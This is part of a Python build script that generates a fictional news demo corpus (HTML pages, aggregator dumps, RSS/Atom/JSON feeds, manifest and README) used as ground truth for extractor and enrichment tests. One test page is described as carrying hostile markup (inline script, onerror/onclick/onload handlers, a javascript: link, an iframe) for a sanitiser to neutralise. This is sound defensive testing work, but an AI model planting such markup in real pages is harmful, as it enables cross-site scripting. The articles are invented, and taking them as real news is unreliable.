    as_of = dt.datetime.fromisoformat(d["as_of"].replace("Z", "+00:00"))
    main = arts[d["main"]]
    rel = [arts[k.strip()] for k in d["related"].split(",")]
    breaks = d.get("linkbreaks", "yes") == "yes"
    body = dump_body_lines(main, breaks)
    if d.get("video"):
        at, vkey = d["video"].split(" ", 1)
        vt = arts[vkey.strip()]["title"]
        i = int(at)
        body = body[:i] + [d.get("duration", "01:42"), vt, vt] + body[i:]
    if d["layout"] == "A":
        out = [""] + [main["title"]] + body
        if d.get("hashtags") == "yes":
            out += ["Hashtags"]
        out += ["", "Try Our AI Features", "Explore what %s AI can do for you:" % AGGREGATOR,
                "Comments", "No comments yet...", "Related Articles"]
        for r in rel:
            src = r["outlet_name"]
            out += ["", "", src, rel_age(as_of, r["published_dt"]), "- " + src, r["title"], one_line(r, advert=True)]
        return "\n".join(out)
    # layout B
    glued = {k.strip() for k in d.get("title_in_body", "").split(",") if k.strip()}
    out = ["logo", main["title"], "", main["title"], "",
           main["outlet_name"] + rel_age(as_of, main["published_dt"])]
    if main.get("deck"):
        out.append(main["deck"])
    out += body
    out += ["Orange background", "", "Try Our AI Features", "", "Explore what %s AI can do for you:" % AGGREGATOR, "",
            "Comments", "", "No comments yet...", "", "Related Articles", ""]
    for r in rel:
        src = r["outlet_name"]
        out += [r["title"], r["title"], "", src, "", "time" + rel_age(as_of, r["published_dt"]), "",
                "  • " + src, "", r["title"], "", one_line(r, with_title=r["key"] in glued), ""]
    out += ["DOWNLOAD THE APP", "", "Get Started Now: Download the App", "",
            "Ready to dive into a world of global content with local flavor? Download %s app today from your preferred app store and start exploring." % AGGREGATOR,
            "app-storeplay-store"]
    return "\n".join(out)


# ------------------------------------------------------------------ feeds

def rfc822(d):
    return d.strftime("%a, %d %b %Y %H:%M:%S +0000")


def feed_rss(outlet, items):
    o = OUTLETS[outlet]
    xs = []
    for a in items:
        xs.append(f"""    <item>
      <title>{esc(a['title'])}</title>
      <link>{a['url']}</link>
      <guid isPermaLink="true">{a['url']}</guid>
      <pubDate>{rfc822(a['published_dt'])}</pubDate>
      <dc:creator>{esc(a.get('byline', ''))}</dc:creator>
      <category>{esc(a.get('section', 'News'))}</category>
      <description>{esc(first_sentence(plain_text(a)[0]))}</description>
    </item>""")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">
  <channel>
    <title>{esc(o['name'])}</title>
    <link>https://{o['domain']}/</link>
    <atom:link href="https://{o['domain']}/feed/rss.xml" rel="self" type="application/rss+xml"/>
    <description>Latest news from {esc(o['name'])}</description>
    <language>en-ca</language>
    <lastBuildDate>{rfc822(max(a['published_dt'] for a in items))}</lastBuildDate>
{chr(10).join(xs)}
  </channel>
</rss>
"""


def feed_atom(outlet, items):
    o = OUTLETS[outlet]
    xs = []
    for a in items:
        ts = a["published_dt"].strftime("%Y-%m-%dT%H:%M:%SZ")
        xs.append(f"""  <entry>
    <title>{esc(a['title'])}</title>
    <link rel="alternate" type="text/html" href="{a['url']}"/>
    <id>{a['url']}</id>
    <published>{ts}</published>
    <updated>{ts}</updated>
    <author><name>{esc(a.get('byline', o['name']))}</name></author>
    <category term="{esc(a.get('section', 'News'))}"/>
    <summary type="text">{esc(first_sentence(plain_text(a)[0]))}</summary>
  </entry>""")
    upd = max(a["published_dt"] for a in items).strftime("%Y-%m-%dT%H:%M:%SZ")
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>{esc(o['name'])}: Top stories</title>
  <link rel="alternate" href="https://{o['domain']}/"/>
  <link rel="self" href="https://{o['domain']}/feeds/top.atom"/>
  <id>https://{o['domain']}/feeds/top.atom</id>
  <updated>{upd}</updated>
{chr(10).join(xs)}
</feed>
"""


def feed_json(outlet, items):
    o = OUTLETS[outlet]
    return json.dumps({
        "version": "https://jsonfeed.org/version/1.1",
        "title": o["name"],
        "home_page_url": "https://%s/" % o["domain"],
        "feed_url": "https://%s/feed.json" % o["domain"],
        "language": "en-CA",
        "items": [{
            "id": a["url"],
            "url": a["url"],
            "title": a["title"],
            "summary": first_sentence(plain_text(a)[0]),
            "date_published": local_iso(a),
            "authors": [{"name": a.get("byline", o["name"])}],
            "tags": [a.get("section", "News")],
        } for a in items],
    }, ensure_ascii=False, indent=2) + "\n"


# ------------------------------------------------------------------- main

def pick_related(a, arts, n=4):
    """Other articles a page links to: same story first (not the same wire
    text), then the outlet's other pages; deterministic."""
    def root(x):
        return x.get("copy_of", x["key"])
    cands = [x for x in arts.values() if x["key"] != a["key"] and root(x) != root(a) and x["where"] in ("page", "both")]
    earlier = [x for x in cands if x["published_dt"] <= a["published_dt"]]
    if len([x for x in earlier if x["story"] == a["story"]]) >= 2 or a["story"] == "single":
        cands = earlier
    else:  # an early article: its page was saved later, when follow-ups were linked
        cands = earlier + [x for x in cands if x["story"] == a["story"] and x not in earlier]
    same = sorted([x for x in cands if x["story"] == a["story"]],
                  key=lambda x: (x["outlet"] != a["outlet"], abs((x["published_dt"] - a["published_dt"]).total_seconds())))
    own = sorted([x for x in cands if x["outlet"] == a["outlet"] and x["story"] != a["story"]], key=lambda x: x["key"])
    out = []
    seen = set()
    for x in same[:3] + own[:2]:
        if root(x) not in seen:
            seen.add(root(x))
            out.append(x)
    return out[:n]


def page_filename(a):
    return "%s--%s.html" % (a["outlet"], a["key"].replace("@", "--"))


def main():
    arts = load_articles()
    dumps = parse_blocks(os.path.join(SRC, "dumps.txt")) if os.path.exists(os.path.join(SRC, "dumps.txt")) else []
    specials = {}
    for b in parse_blocks(os.path.join(SRC, "specials.txt")) if os.path.exists(os.path.join(SRC, "specials.txt")) else []:
        specials[b["key"]] = b

    for sub in ("pages", "dumps", "feeds"):
        for f in glob.glob(os.path.join(ROOT, sub, "*")):
            os.remove(f)

    where = {k: [] for k in arts}
    pages = []
    for a in sorted(arts.values(), key=lambda x: x["key"]):
        if a["where"] not in ("page", "both"):
            continue
        rel = pick_related(a, arts)
        sp = specials.get(a["key"], {})
        kind = sp.get("special", "")
        fname = page_filename(a)
        path = os.path.join(ROOT, "pages", fname)
        if kind == "hostile":
            doc = page_capital(a, rel, hostile=True)
        elif kind == "windows-1252":
            doc = page_valley(a, rel, charset="windows-1252")
        else:
            doc = TEMPLATES[a["outlet"]](a, rel)
        if kind == "windows-1252":
            data = doc.encode("cp1252", errors="xmlcharrefreplace")
        else:
            data = doc.encode("utf-8")
        if kind == "truncated":
            marker = sp["cut_after"].encode("utf-8")
            i = data.index(marker)
            data = data[:i + len(marker)]
        with open(path, "wb") as fh:
            fh.write(data)
        entry = {"file": "pages/" + fname, "format": "html", "role": "main"}
        if kind:
            entry["special"] = kind
        where[a["key"]].append(entry)
        a["_related_urls"] = [r["url"] for r in rel]
        pages.append(fname)

    dump_info = []
    for d in dumps:
        fname = d["key"] + ".txt"
        text = render_dump(d, arts)
        with open(os.path.join(ROOT, "dumps", fname), "w", encoding="utf-8", newline="\n") as fh:
            fh.write(text)
        rel = [k.strip() for k in d["related"].split(",")]
        as_of = dt.datetime.fromisoformat(d["as_of"].replace("Z", "+00:00"))
        main_entry = {"file": "dumps/" + fname, "format": "dump", "role": "main", "related_keys": rel}
        if d["layout"] == "B":
            main_entry["age"] = rel_age(as_of, arts[d["main"]]["published_dt"])
        where[d["main"]].append(main_entry)
        for k in rel:
            where[k].append({"file": "dumps/" + fname, "format": "dump", "role": "related",
                             "age": rel_age(as_of, arts[k]["published_dt"])})
        dump_info.append({"file": "dumps/" + fname, "layout": d["layout"], "as_of": d["as_of"],
                          "main": d["main"], "related": rel})

    feeds = []
    for outlet, kind, fname in (("harbour", "rss", "harbour-courier.rss.xml"),
                                ("harbour", "json", "harbour-courier.feed.json"),
                                ("meridian", "atom", "meridian-wire.atom.xml")):
        items = sorted([a for a in arts.values() if a["outlet"] == outlet and a["where"] in ("page", "both")],
                       key=lambda x: x["published_dt"], reverse=True)
        if not items:
            continue
        fn = dict(rss=feed_rss, atom=feed_atom, json=feed_json)[kind]
        with open(os.path.join(ROOT, "feeds", fname), "w", encoding="utf-8") as fh:
            fh.write(fn(outlet, items))
        feeds.append({"file": "feeds/" + fname, "format": kind, "outlet": OUTLETS[outlet]["name"],
                      "entries": [a["key"] for a in items]})

    missing = [k for k, v in where.items() if not v]
    if missing:
        sys.exit("articles that appear nowhere: %s" % ", ".join(missing))

    manifest_articles = []
    for a in sorted(arts.values(), key=lambda x: (x["published_dt"], x["key"])):
        text = plain_text(a)
        m = {
            "key": a["key"],
            "file": where[a["key"]][0]["file"],
            "appears_in": where[a["key"]],
            "outlet": a["outlet_name"],
            "title": a["title"],
            "story": a["story"],
            "byline": a.get("byline", ""),
            "published_at": a["published_dt"].strftime("%Y-%m-%dT%H:%M:%SZ"),
            "canonical_url": a["url"],
            "copy_of": a.get("copy_of"),
            "words": sum(len(p.split()) for p in text),
            "paragraphs": len(text),
            "first_sentence": first_sentence(text[0]),
            "last_paragraph_start": " ".join(text[-1].split()[:8]),
        }
        if a.get("_related_urls"):
            m["page_related_urls"] = a["_related_urls"]
        manifest_articles.append(m)

    stories = sorted({a["story"] for a in arts.values()})
    manifest = {
        "description": "Dateline demo corpus: fictional articles written for the project. Generated by demo/tools/build.py.",
        "outlets": [{"key": k, "name": v["name"], "domain": v["domain"], "kind": v["kind"]}
                    for k, v in OUTLETS.items() if any(a["outlet"] == k for a in arts.values())],
        "stories": stories,
        "counts": {
            "articles": len(arts),
            "outlets": len({a["outlet"] for a in arts.values()}),
            "stories": len([s for s in stories if s != "single"]),
            "single_articles": sum(1 for a in arts.values() if a["story"] == "single"),
            "wire_originals": len({a["copy_of"] for a in arts.values() if a.get("copy_of")}),
            "wire_copies": sum(1 for a in arts.values() if a.get("copy_of")),
            "html_pages": len(pages),
            "dumps": len(dump_info),
            "feeds": len(feeds),
        },
        "articles": manifest_articles,
        "dumps": dump_info,
        "feeds": feeds,
    }
    with open(os.path.join(ROOT, "manifest.json"), "w", encoding="utf-8") as fh:
        json.dump(manifest, fh, ensure_ascii=False, indent=2)
        fh.write("\n")
    write_readme(manifest, arts)
    print(json.dumps(manifest["counts"]))


def write_readme(manifest, arts):
    c = manifest["counts"]
    rows_out = "\n".join("| %s | `%s` | %s | %d |" % (o["name"], o["domain"], o["kind"],
                                                   sum(1 for a in arts.values() if a["outlet_name"] == o["name"]))
                         for o in manifest["outlets"])
    story_rows = []
    for s in manifest["stories"]:
        items = [a for a in arts.values() if a["story"] == s]
        d0 = min(a["published_dt"] for a in items).strftime("%b %d")
        d1 = max(a["published_dt"] for a in items).strftime("%b %d")
        story_rows.append("| `%s` | %s | %d | %s – %s |" % (s, STORY_DESC.get(s, ""), len(items), d0, d1))
    wire_rows = []
    for a in sorted(arts.values(), key=lambda x: x["key"]):
        if a.get("copy_of"):
            o = arts[a["copy_of"]]
            wire_rows.append("| `%s` (%s) | `%s` (%s) | %s |" % (o["key"], o["outlet_name"], a["key"], a["outlet_name"],
                                                               a.get("_edits", describe_edits(a))))
    dump_rows = "\n".join("| `%s` | %s | `%s` | %s |" % (d["file"], d["layout"], d["main"], ", ".join("`%s`" % k for k in d["related"]))
                          for d in manifest["dumps"])
    special_rows = []
    for m in manifest["articles"]:
        for w in m["appears_in"]:
            if w.get("special"):
                special_rows.append("- `%s`: %s" % (w["file"], SPECIAL_DESC[w["special"]]))
    text = README_TEMPLATE.format(
        counts=c, outlet_rows=rows_out, story_rows="\n".join(story_rows), wire_rows="\n".join(wire_rows),
        dump_rows=dump_rows, special_rows="\n".join(special_rows), aggregator=AGGREGATOR)
    with open(os.path.join(ROOT, "README.md"), "w", encoding="utf-8") as fh:
        fh.write(text)


def describe_edits(a):
    parts = ["new headline"]
    if a.get("drop"):
        parts.append("paragraph(s) %s cut" % a["drop"])
    if a.get("replace"):
        parts.append("%d wording change(s)" % len(a["replace"].split(" || ")))
    if a.get("append"):
        parts.append("local paragraph added")
    if a.get("prepend"):
        parts.append("intro paragraph added")
    if a.get("wrap"):
        parts.append("source re-wrapped at %s columns" % a["wrap"])
    if a.get("note"):
        parts.append(a["note"])
    return ", ".join(parts)


STORY_DESC = {
    "tariffs": "US tariff letters to allies (25% Japan/South Korea, 30% Brazil), talks, deals at 15% before the Aug. 1 deadline",
    "alliance-summit": "US–South Korea alliance \"modernization\": troop levels, defense spending, leaders' summit on Aug. 25",
    "central-bank": "Bank of Canada holds its policy rate at 2.75% on July 30; preview and reaction",
    "port-strike": "10-day dockworkers' strike at the (fictional) Port of Sandhaven, B.C., July 14–24",
    "tech-launch": "Kestrel Labs launches the Orbit Fold 2 phone (July 22) and reviews",
    "storm": "Tropical Storm Delphine floods the (fictional) Marrow River valley in East Texas, Aug. 3–7",
    "election": "Northgate mayoral election on Tuesday Aug. 5",
    "single": "unrelated one-off articles",
}
SPECIAL_DESC = {
    "hostile": "inline `<script>`, `onerror=`/`onclick=`/`onload=` attributes, a `javascript:` link and an iframe inside the article body — must be neutralised by the sanitiser",
    "windows-1252": "encoded in Windows-1252 with `<meta charset=\"windows-1252\">`; curly quotes, the em dash, ½ and accented letters (é, ñ) are single bytes (0x93, 0x94, 0x92, 0x97, 0xE9, 0xF1)",
    "truncated": "cut off mid-body (no closing tags), as a failed download would leave it",
}

README_TEMPLATE = """# Dateline demo corpus

This folder is the data `npx dateline demo` imports and the reader shows. **Everything in it is
fictional and was written for the Dateline project**: the outlets, reporters, officials, companies,
towns, quotes and events are invented (real countries, capitals and a few real institutions appear as
setting only). No text was copied from any real publication. Do not cite it as news.

It is also the ground truth for tests and benchmarks of the later features: near-duplicate detection
(wire copies), story clustering, entities with roles, figures, quotes, dated events and feeds.

Generated files are rendered from the article sources by `python3 demo/tools/build.py` (deterministic;
commit both the sources and the output):

- `src/NN-*.txt` — the article texts (one `@@ key` block each; wire copies are described as edits
  of their original: new headline, cut paragraphs, wording changes, typos, added paragraphs).
  `[[...]]` marks an inline link. `## ` starts a sub-heading.
- `src/dumps.txt` — which articles go into which page dump, the layout and the reference time.
- `src/specials.txt` — the odd pages (hostile markup, Windows-1252, truncated).
- `pages/*.html` — saved HTML pages, one layout per outlet (navigation, cookie banners, ads,
  newsletter boxes, share buttons, comment boxes, related-links lists pointing at other demo
  articles' canonical URLs, footers). Metadata in `<meta>`/Open Graph; JSON-LD `NewsArticle` for
  Meridian Wire, The Harbour Courier, Pacific Dispatch (inside an `@graph`), Capital Observer and
  Eastbrook Herald. Northgate Times, Valley Ledger and Riverside Daily have no JSON-LD.
- `dumps/*.txt` — aggregator page dumps ("{aggregator}", a made-up aggregator) in exactly the two
  layouts of `../shared/seeds/`: layout **A** (starts with an empty line, no source line for the main
  article, related items as `Source / 5 hours ago / - Source / Title / body`) and layout **B**
  (`logo`, repeated headline, `Source17 hours ago`, related items with `timeN hours ago` and
  `  • Source`, app-download block). Inline links break lines as in the seeds ("... and the" /
  "United States ...", "US Forces Korea , agreed", "Seoul' s investment pledge"). Relative ages resolve against the
  dump's `as_of` in `manifest.json`.
- `feeds/` — an RSS 2.0 and a JSON Feed of The Harbour Courier and an Atom feed of Meridian Wire;
  entries point at the pages' canonical URLs.
- `manifest.json` — every article: key, file (first place it appears), all places it appears
  (`appears_in`, with role `main` or `related`), outlet, title, story key, byline, `published_at`
  (UTC), canonical URL, `copy_of` (the original's key, for wire copies), word count, first sentence.

## Counts

| | |
|---|---|
| articles | {counts[articles]} |
| outlets | {counts[outlets]} |
| stories (multi-article) | {counts[stories]} (+ {counts[single_articles]} unrelated single articles) |
| wire originals republished | {counts[wire_originals]} |
| wire copies | {counts[wire_copies]} |
| HTML pages | {counts[html_pages]} |
| page dumps | {counts[dumps]} |
| feeds | {counts[feeds]} |

Five Eastbrook Herald articles exist only inside dumps (as in the seeds, where the related items are
the only copy of those articles); one Eastbrook article is both a dump's main article and an HTML
page. An article can appear in more than one file: some related items in the dumps are the same articles
as HTML pages (dedup across formats), and some appear as related items in several dumps.

## Outlets

| Outlet | Domain | Kind | Articles |
|---|---|---|---|
{outlet_rows}

## Stories

| Key | What happens | Articles | Dates (2025) |
|---|---|---|---|
{story_rows}

## Wire copies

Each row is a republication of a Meridian Wire (or other) original with small edits.

| Original | Copy | Edits |
|---|---|---|
{wire_rows}

## Page dumps

| File | Layout | Main article | Related items |
|---|---|---|---|
{dump_rows}

## Odd pages

{special_rows}

## Gold text and traps for extractors

The gold text of an article is its paragraphs as written in `src/` (sub-headings count as
paragraphs; wire datelines such as "SEOUL, Aug. 12 (Meridian Wire) —" are part of the first
paragraph). Everything else on a page is clutter, including some deliberately awkward pieces:

- Capital Observer repeats a quote from the body as a `<blockquote class="pullquote">` and puts a
  standfirst (`deck`) above the body; neither is body text.
- Meridian Wire ends with "(Reporting by …; Editing by …)" and "Our Standards: …" lines.
- Valley Ledger separates paragraphs with `<br><br>` instead of `<p>`, has a classifieds box right
  after the story, no Open Graph site name and no JSON-LD (its name is only in `<title>`,
  "… :: Valley Ledger", and the footer).
- Eastbrook Herald puts the "Published : …" line inside the same container as the body.
- Harbour Courier and Pacific Dispatch put ads and a newsletter box between paragraphs; Northgate
  Times has a "READ MORE:" link paragraph in the body.
- Layout-A dumps give no source line for the main article (as in the seeds); wire copies name the
  agency in the dateline.
- `manifest.json` gives, for every place an article appears in a dump, the relative age shown
  (`age`); resolve it against the dump's `as_of` (ages are floored to the unit shown, so a
  resolved time can be up to one unit earlier than `published_at`).

## Things to find (for enrichment tests)

- People with roles: "US Trade Representative Thomas Reardon", "Economy Minister Kenji Moriyama",
  "Trade Minister Ana Ferreira", "Adm. Choi Jae-hoon, chairman of the Joint Chiefs of Staff",
  "Lena Hartmann, professor of economics at Northgate University", "Marco Delgado, president of Local 514".
- Figures with units: tariff rates per country (25%, 30%, 15%), "$400 billion", "C$310 million",
  "¥1.9 trillion ($12.9 billion)", "4,200 dockworkers", "28,500 troops", "2.75%", "31.4 feet".
- Quotes with speakers, straight and curly marks, including a quote running over two paragraphs.
- Dated events: "on July 10", "by Aug. 1", "on Tuesday", "later this month", "in 2006", "in 2019".
"""


if __name__ == "__main__":
    main()
